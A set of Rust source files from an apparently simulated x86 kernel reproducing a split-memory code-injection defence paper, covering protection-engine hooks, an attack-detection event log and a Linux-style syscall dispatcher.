    fn on_debug_trap(&mut self, sys: &mut System, pid: Pid) -> bool {
        let _ = (sys, pid);
        false
    }

    /// Invalid-opcode trap at `eip` — where split memory *detects* injected
    /// code about to run (paper §4.5, Algorithm 3).
    fn on_invalid_opcode(&mut self, sys: &mut System, pid: Pid, eip: u32, opcode: u8) -> UdOutcome {
        let _ = (sys, pid, eip, opcode);
        UdOutcome::Unhandled
    }

    /// Whether the machine should report retired control-flow transfers
    /// ([`sm_machine::Trap::ControlFlow`]) to this engine. Only the
    /// shadow-stack/CFI engine pays for the event stream; everything else
    /// keeps the machine's zero-cost default.
    fn wants_cfi_events(&self) -> bool {
        false
    }

    /// A control-flow transfer (`call`/`ret`/indirect jump) retired while
    /// [`ProtectionEngine::wants_cfi_events`] was set: the shadow-stack /
    /// coarse-CFI check point (CET's `#CP` analogue, raised *after* the
    /// transfer the way the hardware checks the retiring `ret`).
    fn on_control_flow(&mut self, sys: &mut System, pid: Pid, ev: CfiEvent) -> CfiOutcome {
        let _ = (sys, pid, ev);
        CfiOutcome::Allow
    }

    /// A COW break copied the page at `vaddr` into `new_frame` (or kept it,
    /// if the refcount had dropped to one). The memory-management patch
    /// point (paper §5.4).
    fn on_cow_copied(&mut self, sys: &mut System, pid: Pid, vaddr: u32, new_frame: Frame) {
        let _ = (sys, pid, vaddr, new_frame);
    }

    /// `parent` forked `child` (address space already COW-copied).
    fn on_fork(&mut self, sys: &mut System, parent: Pid, child: Pid) {
        let _ = (sys, parent, child);
    }

    /// `[start, end)` of `pid` is about to be unmapped (`munmap`).
    fn on_unmap(&mut self, sys: &mut System, pid: Pid, start: u32, end: u32) {
        let _ = (sys, pid, start, end);
    }

    /// `pid`'s address space is about to be torn down (exit or execve).
    /// "On program termination, any split pages must be freed specially to
    /// ensure that both physical pages get put back" (paper §5.4).
    fn on_teardown(&mut self, sys: &mut System, pid: Pid) {
        let _ = (sys, pid);
    }

    /// A dynamic or shared library is about to be mapped: verify it
    /// (paper §4.3's DigSig-style check). Returning `Err` aborts the load.
    ///
    /// # Errors
    ///
    /// An error string describing why verification failed.
    fn verify_library(
        &mut self,
        sys: &mut System,
        pid: Pid,
        image: &ExecImage,
    ) -> Result<(), String> {
        let _ = (sys, pid, image);
        Ok(())
    }

    /// The kernel needs to place *legitimate* executable bytes into user
    /// memory (the signal-return trampoline on the stack — the mixed-page
    /// case of paper §2). The default writes through the data path; the
    /// split-memory engine also installs the bytes on the code frames.
    ///
    /// # Errors
    ///
    /// Propagates a page fault if the target is unmapped.
    fn write_user_code(
        &mut self,
        sys: &mut System,
        pid: Pid,
        vaddr: u32,
        bytes: &[u8],
    ) -> Result<(), PageFaultInfo> {
        let _ = pid;
        sys.machine.copy_to_user(vaddr, bytes)
    }

    /// Serialize the engine's internal bookkeeping (split tables, counters)
    /// for a system snapshot ([`crate::snapshot`]). Stateless engines keep
    /// the default empty encoding.
    fn snapshot_state(&self) -> Vec<u8> {
        Vec::new()
    }

    /// Restore bookkeeping previously produced by
    /// [`ProtectionEngine::snapshot_state`] on a freshly constructed engine
    /// of the same kind.
    ///
    /// # Errors
    ///
    /// A description of the malformed payload. The default accepts only the
    /// empty encoding its `snapshot_state` produces.
    fn restore_state(&mut self, bytes: &[u8]) -> Result<(), String> {
        if bytes.is_empty() {
            Ok(())
        } else {
            Err(format!(
                "engine '{}' carries no state but snapshot has {} bytes",
                self.name(),
                bytes.len()
            ))
        }
    }
}

/// The unprotected baseline: every hook is a no-op.
#[derive(Debug, Default, Clone, Copy)]
pub struct NullEngine;

impl ProtectionEngine for NullEngine {
    fn name(&self) -> &'static str {
        "unprotected"
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }
}
