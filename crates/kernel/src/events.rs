//! Kernel event log.
//!
//! Everything observable in the paper's evaluation — attack detections,
//! shell spawns, Sebek-style honeypot captures, library verifications —
//! is recorded here with a simulated-cycle timestamp. The attack harness
//! and the response-mode demos read this log instead of scraping console
//! output.

use crate::process::Pid;
use std::fmt;

/// Response mode active when an attack was detected (paper §4.5). Defined
/// here (rather than in `sm-core`) so the kernel can log it; the engine
/// crate re-exports it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ResponseMode {
    /// Let the fetch land on the empty code page: the process crashes.
    Break,
    /// Log, lock the page to the data frame, and let the attack proceed
    /// (honeypot style).
    Observe,
    /// Dump EIP + shellcode; optionally substitute forensic shellcode.
    Forensics,
}

impl fmt::Display for ResponseMode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            ResponseMode::Break => "break",
            ResponseMode::Observe => "observe",
            ResponseMode::Forensics => "forensics",
        })
    }
}

/// One logged kernel event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Event {
    /// A process successfully `execve`d an image (attack success is
    /// detected by watching for `/bin/sh` here).
    Exec {
        /// Process that executed the image.
        pid: Pid,
        /// Image path.
        path: String,
    },
    /// A process exited (voluntarily or by signal).
    ProcessExit {
        /// The process.
        pid: Pid,
        /// Exit status (128+signal for signal deaths, Unix style).
        code: i32,
    },
    /// A fatal signal was delivered.
    Signal {
        /// The process.
        pid: Pid,
        /// Signal number.
        sig: u8,
    },
    /// The protection engine detected injected-code execution — the
    /// paper's unique "right before the first injected instruction"
    /// moment.
    AttackDetected {
        /// The compromised process.
        pid: Pid,
        /// Program counter at detection (start of injected code).
        eip: u32,
        /// Active response mode.
        mode: ResponseMode,
        /// Leading bytes of the injected payload, captured from the data
        /// page (forensics mode; empty otherwise).
        shellcode: Vec<u8>,
    },
    /// Sebek-style honeypot capture of attacker input (paper Fig. 5d).
    SebekRead {
        /// Monitored process.
        pid: Pid,
        /// Captured bytes.
        data: Vec<u8>,
    },
    /// A dynamic/shared library passed (or failed) signature verification
    /// (paper §4.3).
    Library {
        /// Loading process.
        pid: Pid,
        /// Library path.
        name: String,
        /// Whether the signature verified.
        verified: bool,
    },
    /// The paper's future-work recovery mode transferred control to an
    /// application-registered recovery handler.
    RecoveryEntered {
        /// The process.
        pid: Pid,
        /// Handler address.
        handler: u32,
    },
    /// A split page lost its code/data separation because a code-frame
    /// allocation hit out-of-memory; protection fell back to the
    /// execute-disable bit where the page layout allows it. Never fatal:
    /// degradation is the engine's no-panic OOM policy.
    SplitDegraded {
        /// Owning process.
        pid: Pid,
        /// Page base address of the degraded page.
        vaddr: u32,
        /// What the engine was doing when the allocation failed.
        reason: &'static str,
    },
    /// Free-form annotation (used by examples and tests).
    Note(String),
}

/// Event log with simulated-cycle timestamps.
#[derive(Debug, Default)]
pub struct EventLog {
    entries: Vec<(u64, Event)>,
}

impl EventLog {
    /// Create an empty log.
    pub fn new() -> EventLog {
        EventLog::default()
    }

    /// Append an event stamped with the given cycle count.
    pub fn push(&mut self, cycles: u64, event: Event) {
        self.entries.push((cycles, event));
    }

    /// All `(cycles, event)` entries in order.
    pub fn entries(&self) -> &[(u64, Event)] {
        &self.entries
    }

    /// Iterate over events only.
    pub fn iter(&self) -> impl Iterator<Item = &Event> {
        self.entries.iter().map(|(_, e)| e)
    }

    /// First attack detection, if any.
    pub fn first_detection(&self) -> Option<&Event> {
        self.iter()
            .find(|e| matches!(e, Event::AttackDetected { .. }))
    }

    /// True if some process exec'd the given path (e.g. `/bin/sh`).
    pub fn execed(&self, path: &str) -> bool {
        self.iter()
            .any(|e| matches!(e, Event::Exec { path: p, .. } if p == path))
    }

    /// Number of events.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// True if the log is empty.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn log_queries() {
        let mut log = EventLog::new();
        assert!(log.is_empty());
        log.push(
            10,
            Event::Exec {
                pid: Pid(1),
                path: "/bin/sh".into(),
            },
        );
        log.push(
            20,
            Event::AttackDetected {
                pid: Pid(1),
                eip: 0xbf00_0000,
                mode: ResponseMode::Observe,
                shellcode: vec![0x90],
            },
        );
        assert_eq!(log.len(), 2);
        assert!(log.execed("/bin/sh"));
        assert!(!log.execed("/bin/ls"));
        assert!(matches!(
            log.first_detection(),
            Some(Event::AttackDetected {
                eip: 0xbf00_0000,
                ..
            })
        ));
        assert_eq!(log.entries()[1].0, 20);
    }

    #[test]
    fn response_mode_display() {
        assert_eq!(ResponseMode::Break.to_string(), "break");
        assert_eq!(ResponseMode::Observe.to_string(), "observe");
        assert_eq!(ResponseMode::Forensics.to_string(), "forensics");
    }
}
