//! System call numbers, errno values and the dispatcher.
//!
//! The ABI follows Linux/x86 conventions: `int 0x80`, call number in `eax`,
//! arguments in `ebx`/`ecx`/`edx`, result (or negative errno) back in
//! `eax`. Numbers match Linux where an equivalent exists, so the paper's
//! shellcode (`exit(0)` = `mov eax, 1; int 0x80`) works verbatim; the
//! loopback-network and reproduction-specific calls live at 200+.

use crate::addrspace::AddressSpace;
use crate::events::Event;
use crate::fs;
use crate::image::ExecImage;
use crate::kernel::Kernel;
use crate::process::{FdObject, Pid, ProcState, Process, WaitReason};
use crate::signal::SigAction;
use crate::vma::{Vma, VmaKind};
use sm_machine::cpu::Reg;
use sm_machine::pte::{self, PAGE_SIZE};

/// `exit(status)`.
pub const SYS_EXIT: u32 = 1;
/// `fork()`.
pub const SYS_FORK: u32 = 2;
/// `read(fd, buf, len)`.
pub const SYS_READ: u32 = 3;
/// `write(fd, buf, len)`.
pub const SYS_WRITE: u32 = 4;
/// `open(path, flags)`.
pub const SYS_OPEN: u32 = 5;
/// `close(fd)`.
pub const SYS_CLOSE: u32 = 6;
/// `waitpid(pid, status_ptr)`.
pub const SYS_WAITPID: u32 = 7;
/// `execve(path)`.
pub const SYS_EXECVE: u32 = 11;
/// `time()` — coarse simulated clock.
pub const SYS_TIME: u32 = 13;
/// `lseek(fd, offset, whence)`.
pub const SYS_LSEEK: u32 = 19;
/// `getpid()`.
pub const SYS_GETPID: u32 = 20;
/// `pause()`.
pub const SYS_PAUSE: u32 = 29;
/// `kill(pid, sig)`.
pub const SYS_KILL: u32 = 37;
/// `dup(fd)`.
pub const SYS_DUP: u32 = 41;
/// `dup2(oldfd, newfd)`.
pub const SYS_DUP2: u32 = 63;
/// `pipe(fds[2])`.
pub const SYS_PIPE: u32 = 42;
/// `brk(addr)`.
pub const SYS_BRK: u32 = 45;
/// `signal(sig, handler)`; handler 0 = default, 1 = ignore.
pub const SYS_SIGNAL: u32 = 48;
/// `mmap(len, prot)` — kernel chooses the address.
pub const SYS_MMAP: u32 = 90;
/// `munmap(addr, len)`.
pub const SYS_MUNMAP: u32 = 91;
/// `sigreturn()` — only called by the kernel's stack trampoline.
pub const SYS_SIGRETURN: u32 = 119;
/// `sched_yield()`.
pub const SYS_YIELD: u32 = 158;
/// `netlisten(port)`.
pub const SYS_LISTEN: u32 = 200;
/// `netaccept(port)` → connected socket fd.
pub const SYS_ACCEPT: u32 = 201;
/// `netconnect(port)` → connected socket fd.
pub const SYS_CONNECT: u32 = 202;
/// `dlopen(path)` → library base address (runtime dynamic loading, §4.3).
pub const SYS_DLOPEN: u32 = 210;
/// `register_recovery(handler)` — the paper's recovery response mode hook.
pub const SYS_REGISTER_RECOVERY: u32 = 211;

/// No such file.
pub const ENOENT: i32 = -2;
/// No such process.
pub const ESRCH: i32 = -3;
/// I/O error (injected by the chaos harness's disk-fault plans).
pub const EIO: i32 = -5;
/// Bad file descriptor.
pub const EBADF: i32 = -9;
/// No waitable child.
pub const ECHILD: i32 = -10;
/// Out of memory.
pub const ENOMEM: i32 = -12;
/// Permission denied (library verification failures surface as this).
pub const EACCES: i32 = -13;
/// Bad address.
pub const EFAULT: i32 = -14;
/// Invalid argument.
pub const EINVAL: i32 = -22;
/// Broken pipe.
pub const EPIPE: i32 = -32;
/// Function not implemented.
pub const ENOSYS: i32 = -38;
/// Address in use.
pub const EADDRINUSE: i32 = -98;

enum Outcome {
    /// Write the value to `eax` and keep running.
    Ret(i32),
    /// Park the process and restart the `int 0x80` on wake.
    Block(WaitReason),
    /// Registers were replaced wholesale (exit / execve / sigreturn).
    NoReturn,
    /// Return 0 and end the time slice (sched_yield).
    Yield,
}

/// Dispatch the system call currently latched in the CPU registers of the
/// running process `pid`.
pub(crate) fn handle(k: &mut Kernel, pid: Pid) {
    let regs = k.sys.machine.cpu.regs;
    let nr = regs.get(Reg::Eax);
    let a1 = regs.get(Reg::Ebx);
    let a2 = regs.get(Reg::Ecx);
    let a3 = regs.get(Reg::Edx);
    let outcome = dispatch(k, pid, nr, a1, a2, a3);
    match outcome {
        Outcome::Ret(v) => k.sys.machine.cpu.regs.set(Reg::Eax, v as u32),
        Outcome::Block(reason) => {
            let p = k.sys.proc_mut(pid);
            p.state = ProcState::Blocked(reason);
            // Rewind over the 2-byte `int 0x80` so the call restarts on
            // wake-up with its argument registers intact.
            k.sys.machine.cpu.regs.eip = k.sys.machine.cpu.regs.eip.wrapping_sub(2);
        }
        Outcome::NoReturn => {}
        Outcome::Yield => {
            k.sys.machine.cpu.regs.set(Reg::Eax, 0);
            // End the slice; the scheduler re-queues the (still Ready)
            // process after saving its context.
            k.sys.preempt = true;
        }
    }
}

#[allow(clippy::too_many_lines)]
fn dispatch(k: &mut Kernel, pid: Pid, nr: u32, a1: u32, a2: u32, a3: u32) -> Outcome {
    match nr {
        SYS_EXIT => {
            k.do_exit(pid, a1 as i32);
            Outcome::NoReturn
        }
        SYS_FORK => sys_fork(k, pid),
        SYS_READ => sys_read(k, pid, a1, a2, a3),
        SYS_WRITE => sys_write(k, pid, a1, a2, a3),
        SYS_OPEN => sys_open(k, pid, a1, a2),
        SYS_CLOSE => match k.sys.proc_mut(pid).take_fd(a1) {
            Some(obj) => {
                k.close_fd_object(obj);
                Outcome::Ret(0)
            }
            None => Outcome::Ret(EBADF),
        },
        SYS_WAITPID => sys_waitpid(k, pid, a1 as i32, a2),
        SYS_EXECVE => sys_execve(k, pid, a1),
        SYS_TIME => Outcome::Ret((k.sys.machine.cycles >> 10) as i32),
        SYS_LSEEK => sys_lseek(k, pid, a1, a2 as i32, a3),
        SYS_GETPID => Outcome::Ret(pid.0 as i32),
        SYS_PAUSE => Outcome::Block(WaitReason::Pause),
        SYS_KILL => {
            let target = Pid(a1);
            if k.sys.procs.contains_key(&a1) {
                k.raise_signal(target, a2 as u8);
                Outcome::Ret(0)
            } else {
                Outcome::Ret(ESRCH)
            }
        }
        SYS_DUP => sys_dup(k, pid, a1),
        SYS_DUP2 => sys_dup2(k, pid, a1, a2),
        SYS_PIPE => sys_pipe(k, pid, a1),
        SYS_BRK => sys_brk(k, pid, a1),
        SYS_SIGNAL => {
            let act = match a2 {
                0 => SigAction::Default,
                1 => SigAction::Ignore,
                addr => SigAction::Handler(addr),
            };
            if k.sys.proc_mut(pid).signals.set_action(a1 as u8, act) {
                Outcome::Ret(0)
            } else {
                Outcome::Ret(EINVAL)
            }
        }
        SYS_MMAP => sys_mmap(k, pid, a1, a2),
        SYS_MUNMAP => sys_munmap(k, pid, a1, a2),
        SYS_SIGRETURN => match k.sys.proc_mut(pid).signals.saved_context.take() {
            Some(saved) => {
                k.sys.machine.cpu.regs = saved;
                Outcome::NoReturn
            }
            None => Outcome::Ret(EINVAL),
        },
        SYS_YIELD => Outcome::Yield,
        SYS_LISTEN => {
            if k.sys.net.listen(a1 as u16) {
                k.sys.wake_where(|r| *r == WaitReason::Connect(a1 as u16));
                Outcome::Ret(0)
            } else {
                Outcome::Ret(EADDRINUSE)
            }
        }
        SYS_ACCEPT => sys_accept(k, pid, a1 as u16),
        SYS_CONNECT => sys_connect(k, pid, a1 as u16),
        SYS_DLOPEN => sys_dlopen(k, pid, a1),
        SYS_REGISTER_RECOVERY => {
            k.sys.proc_mut(pid).recovery_handler = Some(a1);
            Outcome::Ret(0)
        }
        _ => Outcome::Ret(ENOSYS),
    }
}

fn sys_fork(k: &mut Kernel, pid: Pid) -> Outcome {
    let child_pid = k.sys.alloc_pid();
    let child_aspace = {
        let sys = &mut k.sys;
        let parent = sys.procs.get_mut(&pid.0).expect("pid");
        match parent.aspace.fork_copy(&mut sys.machine, &mut sys.frames) {
            Ok(a) => a,
            Err(_) => return Outcome::Ret(ENOMEM),
        }
    };
    let (name, fds, signals, honeypot) = {
        let p = k.sys.proc(pid);
        (
            p.name.clone(),
            p.fds.clone(),
            p.signals.clone(),
            p.honeypot_log,
        )
    };
    let mut child = Process::new(child_pid, pid, name, child_aspace);
    child.fds = fds;
    child.signals = signals;
    child.signals.pending.clear();
    child.signals.saved_context = None;
    child.honeypot_log = honeypot;
    // Child resumes after the int with eax = 0.
    child.ctx = k.sys.machine.cpu.regs;
    child.ctx.set(Reg::Eax, 0);
    // Duplicate pipe endpoints.
    for fd in child.fds.iter().flatten() {
        match fd {
            FdObject::PipeRead(id) => k.sys.pipes.add_reader(*id),
            FdObject::PipeWrite(id) => k.sys.pipes.add_writer(*id),
            FdObject::Socket { rx, tx } => {
                k.sys.pipes.add_reader(*rx);
                k.sys.pipes.add_writer(*tx);
            }
            _ => {}
        }
    }
    k.sys.procs.insert(child_pid.0, child);
    k.sys.live_count += 1;
    k.sys.stats.processes_spawned += 1;
    k.sys.enqueue(child_pid);
    k.engine.on_fork(&mut k.sys, pid, child_pid);
    k.sys
        .trace(sm_trace::mask::COW, || sm_trace::TraceEvent::CowShare {
            parent: pid.0,
            child: child_pid.0,
        });
    Outcome::Ret(child_pid.0 as i32)
}

fn sys_read(k: &mut Kernel, pid: Pid, fd: u32, buf: u32, len: u32) -> Outcome {
    let Some(obj) = k.sys.proc(pid).fd(fd).cloned() else {
        return Outcome::Ret(EBADF);
    };
    let data: Vec<u8> = match obj {
        FdObject::Console => {
            let p = k.sys.proc_mut(pid);
            let n = (len as usize).min(p.input.len());
            p.input.drain(..n).collect()
        }
        FdObject::File {
            path,
            offset,
            flags,
        } => {
            // Disk faults are drawn before the transfer: a failed read
            // moves no bytes and leaves the file offset where it was.
            let fault = k.sys.chaos_fs_fault();
            if fault.error {
                return Outcome::Ret(EIO);
            }
            let want = if fault.short {
                (len as usize).min(1)
            } else {
                len as usize
            };
            let Some(data) = k.sys.fs.read_at(&path, offset as usize, want) else {
                return Outcome::Ret(ENOENT);
            };
            k.sys.proc_mut(pid).fds[fd as usize] = Some(FdObject::File {
                path,
                offset: offset + data.len() as u32,
                flags,
            });
            data
        }
        FdObject::PipeRead(id) | FdObject::Socket { rx: id, .. } => {
            let pipe = k.sys.pipes.get_mut(id);
            if pipe.is_empty() {
                // The calling process itself holds one endpoint of each
                // kind when using sockets; EOF only when no *other* writer
                // can produce bytes.
                let self_writers = count_own_writers(k.sys.proc(pid), id);
                let pipe = k.sys.pipes.get(id);
                if pipe.writers <= self_writers {
                    return Outcome::Ret(0); // EOF
                }
                return Outcome::Block(WaitReason::PipeReadable(id));
            }
            let mut tmp = vec![0u8; len as usize];
            let n = pipe.read(&mut tmp);
            tmp.truncate(n);
            k.sys.wake_where(|r| *r == WaitReason::PipeWritable(id));
            tmp
        }
        FdObject::PipeWrite(_) => return Outcome::Ret(EBADF),
    };
    if !data.is_empty() && !k.user_write(pid, buf, &data) {
        return Outcome::Ret(EFAULT);
    }
    if k.sys.proc(pid).honeypot_log && !data.is_empty() {
        k.sys.log(Event::SebekRead {
            pid,
            data: data.clone(),
        });
    }
    Outcome::Ret(data.len() as i32)
}

/// Endpoints of pipe `id` held by this process itself (so a process
/// blocked reading its own socket doesn't see its own write end as a
/// "live writer").
fn count_own_writers(p: &Process, id: fs::PipeId) -> u32 {
    p.fds
        .iter()
        .flatten()
        .filter(|f| {
            matches!(f, FdObject::PipeWrite(w) if *w == id)
                || matches!(f, FdObject::Socket { tx, .. } if *tx == id)
        })
        .count() as u32
}

fn sys_write(k: &mut Kernel, pid: Pid, fd: u32, buf: u32, len: u32) -> Outcome {
    let Some(obj) = k.sys.proc(pid).fd(fd).cloned() else {
        return Outcome::Ret(EBADF);
    };
    let Some(data) = k.user_read(pid, buf, len) else {
        return Outcome::Ret(EFAULT);
    };
    match obj {
        FdObject::Console => {
            k.sys.proc_mut(pid).output.extend_from_slice(&data);
            Outcome::Ret(len as i32)
        }
        FdObject::File {
            path,
            offset,
            flags,
        } => {
            if flags & (fs::O_WRONLY | fs::O_RDWR) == 0 {
                return Outcome::Ret(EBADF);
            }
            // Disk faults are drawn after validation but before the
            // transfer: a failed write moves no bytes, a short write
            // commits exactly one and reports it.
            let fault = k.sys.chaos_fs_fault();
            if fault.error {
                return Outcome::Ret(EIO);
            }
            let n = if fault.short {
                data.len().min(1)
            } else {
                data.len()
            };
            let end = k.sys.fs.write_at(
                &path,
                offset as usize,
                &data[..n],
                flags & fs::O_APPEND != 0,
            );
            k.sys.proc_mut(pid).fds[fd as usize] = Some(FdObject::File {
                path,
                offset: end as u32,
                flags,
            });
            Outcome::Ret(n as i32)
        }
        FdObject::PipeWrite(id) | FdObject::Socket { tx: id, .. } => {
            // POSIX semantics: EPIPE only when *no* read end exists
            // anywhere (the writer's own read end counts).
            let pipe = k.sys.pipes.get_mut(id);
            if pipe.readers == 0 {
                return Outcome::Ret(EPIPE);
            }
            if pipe.room() == 0 {
                return Outcome::Block(WaitReason::PipeWritable(id));
            }
            let n = pipe.write(&data);
            k.sys.wake_where(|r| *r == WaitReason::PipeReadable(id));
            Outcome::Ret(n as i32)
        }
        FdObject::PipeRead(_) => Outcome::Ret(EBADF),
    }
}

fn sys_open(k: &mut Kernel, pid: Pid, path_ptr: u32, flags: u32) -> Outcome {
    let Some(path) = k.user_cstr(pid, path_ptr) else {
        return Outcome::Ret(EFAULT);
    };
    if !k.sys.fs.exists(&path) {
        if flags & fs::O_CREAT == 0 {
            return Outcome::Ret(ENOENT);
        }
        k.sys.fs.install(path.clone(), Vec::new());
    } else if flags & fs::O_TRUNC != 0 {
        k.sys.fs.file_mut(&path).clear();
    }
    let fd = k.sys.proc_mut(pid).install_fd(FdObject::File {
        path,
        offset: 0,
        flags,
    });
    Outcome::Ret(fd as i32)
}

fn sys_waitpid(k: &mut Kernel, pid: Pid, target: i32, status_ptr: u32) -> Outcome {
    let zombie = k
        .sys
        .procs
        .values()
        .find(|p| {
            p.ppid == pid
                && p.pid != pid
                && p.state == ProcState::Zombie
                && (target == -1 || p.pid.0 == target as u32)
        })
        .map(|p| (p.pid, p.exit_code.unwrap_or(0)));
    if let Some((child, code)) = zombie {
        k.sys.procs.remove(&child.0);
        if status_ptr != 0 && !k.user_write(pid, status_ptr, &(code as u32).to_le_bytes()) {
            return Outcome::Ret(EFAULT);
        }
        return Outcome::Ret(child.0 as i32);
    }
    let has_children = k
        .sys
        .procs
        .values()
        .any(|p| p.ppid == pid && p.pid != pid && (target == -1 || p.pid.0 == target as u32));
    if has_children {
        Outcome::Block(WaitReason::Child)
    } else {
        Outcome::Ret(ECHILD)
    }
}

fn sys_execve(k: &mut Kernel, pid: Pid, path_ptr: u32) -> Outcome {
    let Some(path) = k.user_cstr(pid, path_ptr) else {
        return Outcome::Ret(EFAULT);
    };
    // The image read happens *before* teardown, so a disk fault here
    // leaves the calling process intact: EIO to the caller, old address
    // space untouched. A short read truncates the image, which then fails
    // to parse the same way a corrupt file would.
    let fault = k.sys.chaos_fs_fault();
    if fault.error {
        return Outcome::Ret(EIO);
    }
    let Some(mut bytes) = k.sys.fs.file(&path).cloned() else {
        return Outcome::Ret(ENOENT);
    };
    if fault.short {
        bytes.truncate(1);
    }
    let Ok(image) = ExecImage::from_bytes(&bytes) else {
        return Outcome::Ret(ENOENT);
    };
    // Tear down the old address space (engine first: split frames).
    k.engine.on_teardown(&mut k.sys, pid);
    let rebuilt = {
        let sys = &mut k.sys;
        let p = sys.procs.get_mut(&pid.0).expect("pid");
        p.aspace.free_all(&mut sys.machine, &mut sys.frames);
        AddressSpace::new(&mut sys.machine, &mut sys.frames)
    };
    let Ok(aspace) = rebuilt else {
        // The old image is gone and no new address space can be built:
        // nothing to return to — exit the process cleanly.
        k.do_exit(pid, 127);
        return Outcome::NoReturn;
    };
    {
        let p = k.sys.procs.get_mut(&pid.0).expect("pid");
        p.aspace = aspace;
        p.signals.reset_on_exec();
        p.pending_step_addr = None;
        p.recovery_handler = None;
        p.name = path.clone();
    }
    if crate::loader::load_into(k, pid, &image).is_err() {
        // Old image is gone; nothing to return to.
        k.do_exit(pid, 127);
        return Outcome::NoReturn;
    }
    k.sys.stats.processes_spawned += 1;
    k.sys.log(Event::Exec { pid, path });
    // The current process got a brand-new context: load it onto the CPU.
    let ctx = k.sys.proc(pid).ctx;
    let dir = k.sys.proc(pid).aspace.dir;
    // Registers first: set_cr3 writes the CR3 field inside the file.
    k.sys.machine.cpu.regs = ctx;
    k.sys.machine.set_cr3(dir);
    k.sys.loaded_cr3_for = Some(pid);
    Outcome::NoReturn
}

fn sys_lseek(k: &mut Kernel, pid: Pid, fd: u32, off: i32, whence: u32) -> Outcome {
    let Some(FdObject::File {
        path,
        offset,
        flags,
    }) = k.sys.proc(pid).fd(fd).cloned()
    else {
        return Outcome::Ret(EBADF);
    };
    let size = k.sys.fs.file(&path).map_or(0, Vec::len) as i64;
    let base = match whence {
        0 => 0i64,
        1 => offset as i64,
        2 => size,
        _ => return Outcome::Ret(EINVAL),
    };
    let new = base + off as i64;
    if !(0..=u32::MAX as i64).contains(&new) {
        return Outcome::Ret(EINVAL);
    }
    k.sys.proc_mut(pid).fds[fd as usize] = Some(FdObject::File {
        path,
        offset: new as u32,
        flags,
    });
    Outcome::Ret(new as i32)
}

fn sys_dup(k: &mut Kernel, pid: Pid, fd: u32) -> Outcome {
    let Some(obj) = k.sys.proc(pid).fd(fd).cloned() else {
        return Outcome::Ret(EBADF);
    };
    match &obj {
        FdObject::PipeRead(id) => k.sys.pipes.add_reader(*id),
        FdObject::PipeWrite(id) => k.sys.pipes.add_writer(*id),
        FdObject::Socket { rx, tx } => {
            k.sys.pipes.add_reader(*rx);
            k.sys.pipes.add_writer(*tx);
        }
        _ => {}
    }
    Outcome::Ret(k.sys.proc_mut(pid).install_fd(obj) as i32)
}

fn sys_dup2(k: &mut Kernel, pid: Pid, oldfd: u32, newfd: u32) -> Outcome {
    let Some(obj) = k.sys.proc(pid).fd(oldfd).cloned() else {
        return Outcome::Ret(EBADF);
    };
    if oldfd == newfd {
        return Outcome::Ret(newfd as i32);
    }
    if newfd > 64 {
        return Outcome::Ret(EBADF);
    }
    match &obj {
        FdObject::PipeRead(id) => k.sys.pipes.add_reader(*id),
        FdObject::PipeWrite(id) => k.sys.pipes.add_writer(*id),
        FdObject::Socket { rx, tx } => {
            k.sys.pipes.add_reader(*rx);
            k.sys.pipes.add_writer(*tx);
        }
        _ => {}
    }
    if let Some(old) = k.sys.proc_mut(pid).take_fd(newfd) {
        k.close_fd_object(old);
    }
    let p = k.sys.proc_mut(pid);
    while p.fds.len() <= newfd as usize {
        p.fds.push(None);
    }
    p.fds[newfd as usize] = Some(obj);
    Outcome::Ret(newfd as i32)
}

fn sys_pipe(k: &mut Kernel, pid: Pid, fds_ptr: u32) -> Outcome {
    let cap = k.sys.config.pipe_capacity;
    let id = k.sys.pipes.create_with_capacity(cap);
    let r = k.sys.proc_mut(pid).install_fd(FdObject::PipeRead(id));
    let w = k.sys.proc_mut(pid).install_fd(FdObject::PipeWrite(id));
    let mut bytes = [0u8; 8];
    bytes[..4].copy_from_slice(&r.to_le_bytes());
    bytes[4..].copy_from_slice(&w.to_le_bytes());
    if !k.user_write(pid, fds_ptr, &bytes) {
        return Outcome::Ret(EFAULT);
    }
    Outcome::Ret(0)
}

fn sys_brk(k: &mut Kernel, pid: Pid, addr: u32) -> Outcome {
    let (brk_start, brk) = {
        let a = &k.sys.proc(pid).aspace;
        (a.brk_start, a.brk)
    };
    if addr == 0 {
        return Outcome::Ret(brk as i32);
    }
    if addr < brk_start || addr > brk_start + k.sys.config.heap_limit {
        return Outcome::Ret(ENOMEM);
    }
    let new_end = pte::page_align_up(addr);
    let p = k.sys.proc_mut(pid);
    let existing = p.aspace.vmas.iter_mut().find(|v| v.kind == VmaKind::Heap);
    match existing {
        Some(v) => {
            v.end = v.end.max(new_end.max(v.start + PAGE_SIZE));
        }
        None => {
            if new_end > brk_start {
                p.aspace.add_vma(Vma::new(
                    brk_start,
                    new_end,
                    crate::image::SEG_R | crate::image::SEG_W,
                    VmaKind::Heap,
                    "heap",
                ));
            }
        }
    }
    p.aspace.brk = addr;
    Outcome::Ret(addr as i32)
}

fn sys_mmap(k: &mut Kernel, pid: Pid, len: u32, prot: u32) -> Outcome {
    if len == 0 {
        return Outcome::Ret(EINVAL);
    }
    let size = pte::page_align_up(len);
    let p = k.sys.proc_mut(pid);
    let base = p.aspace.mmap_next;
    p.aspace.mmap_next = base + size + PAGE_SIZE; // guard gap
    let flags = (prot & 7) as u8; // PROT_READ/WRITE/EXEC match SEG_R/W/X
    p.aspace
        .add_vma(Vma::new(base, base + size, flags, VmaKind::Mmap, "mmap"));
    Outcome::Ret(base as i32)
}

fn sys_munmap(k: &mut Kernel, pid: Pid, addr: u32, _len: u32) -> Outcome {
    let Some(vma) = k
        .sys
        .proc(pid)
        .aspace
        .vmas
        .iter()
        .find(|v| v.start == addr && v.kind == VmaKind::Mmap)
        .cloned()
    else {
        return Outcome::Ret(EINVAL);
    };
    k.engine.on_unmap(&mut k.sys, pid, vma.start, vma.end);
    let present = {
        let p = k.sys.proc(pid);
        p.aspace.present_ptes(&k.sys.machine, vma.start, vma.end)
    };
    for (vaddr, entry) in present {
        k.sys.release_frame(pte::frame(entry));
        k.sys.set_pte(pid, vaddr, 0);
        k.sys.machine.invlpg(vaddr);
    }
    k.sys.proc_mut(pid).aspace.remove_vma(vma.start);
    Outcome::Ret(0)
}

